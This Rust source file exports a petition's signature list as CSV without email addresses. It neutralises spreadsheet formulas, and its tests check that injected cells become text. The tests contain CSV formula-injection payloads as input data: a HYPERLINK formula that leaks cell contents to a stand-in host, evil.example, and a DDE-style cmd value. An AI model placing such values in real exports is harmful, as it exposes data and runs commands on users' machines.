//! The signature list a petition letter carries: organizations first, then people, each in
//! the order they signed. No email addresses or street addresses leave hillpost this way.
//! Cells that a spreadsheet would run as a formula are neutralised (see `csv_cell`).

use crate::signer::{NewSignature, SignerKind};

/// The list as CSV (UTF-8 with a header row): name, organization, city, state, country.
pub fn signature_list_csv<'a>(signatures: impl IntoIterator<Item = &'a NewSignature>) -> Vec<u8> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let write = |w: &mut csv::Writer<Vec<u8>>, row: [&str; 5]| {
        w.write_record(
            row.map(crate::csv_cell::neutralise)
                .iter()
                .map(|c| c.as_ref()),
        )
        .expect("writing CSV into memory cannot fail");
    };
    write(
        &mut writer,
        ["name", "organization", "city", "state", "country"],
    );
    for s in ordered(signatures) {
        let organization = s.organization.as_ref().map(|o| o.as_str()).unwrap_or("");
        let name = match s.kind() {
            SignerKind::Organization => String::new(),
            SignerKind::Person => s.full_name(),
        };
        let a = &s.address;
        let country = a.country.map(|c| c.name()).unwrap_or_default();
        write(
            &mut writer,
            [
                &name,
                organization,
                a.city.as_deref().unwrap_or(""),
                a.state.map(|s| s.code()).unwrap_or(""),
                &country,
            ],
        );
    }
    writer
        .into_inner()
        .expect("an in-memory CSV writer always flushes")
}

/// Organizations first, then people; stable within each group.
pub fn ordered<'a>(
    signatures: impl IntoIterator<Item = &'a NewSignature>,
) -> Vec<&'a NewSignature> {
    let mut list: Vec<&NewSignature> = signatures.into_iter().collect();
    list.sort_by_key(|s| s.kind() == SignerKind::Person);
    list
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::import::{CsvRow, SignatureCsv};

    #[test]
    fn organizations_come_first_and_no_emails_leak() {
        let csv = "first_name,last_name,organization,email,city,country\n\
                   Ana,López,,ana@example.org,Lima,PE\n\
                   ,,CODEPINK,info@example.org,,US\n";
        let signatures: Vec<NewSignature> = SignatureCsv::new(csv.as_bytes())
            .unwrap()
            .filter_map(|r| match r {
                CsvRow::Accepted { signature, .. } => Some(*signature),
                _ => None,
            })
            .collect();
        let out = String::from_utf8(signature_list_csv(&signatures)).unwrap();
        assert_eq!(
            out,
            "name,organization,city,state,country\n,CODEPINK,,,United States\nAna López,,Lima,,Peru\n"
        );
        assert!(!out.contains('@'));
    }

    #[test]
    fn spreadsheet_formulas_from_signers_become_text() {
        let csv = "first_name,last_name,email,city,country\n\
                   \"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"Click\"\")\",X,a@example.org,\"+cmd|' /C calc'!A0\",US\n";
        let signatures: Vec<NewSignature> = SignatureCsv::new(csv.as_bytes())
            .unwrap()
            .map(|r| match r {
                CsvRow::Accepted { signature, .. } => *signature,
                other => panic!("{other:?}"),
            })
            .collect();
        let out = String::from_utf8(signature_list_csv(&signatures)).unwrap();
        let row: Vec<&str> = out.lines().nth(1).unwrap().split(',').collect();
        assert!(row[0].starts_with("\"'=HYPERLINK"), "{out}");
        assert!(out.contains("'+cmd|"), "{out}");
    }
}
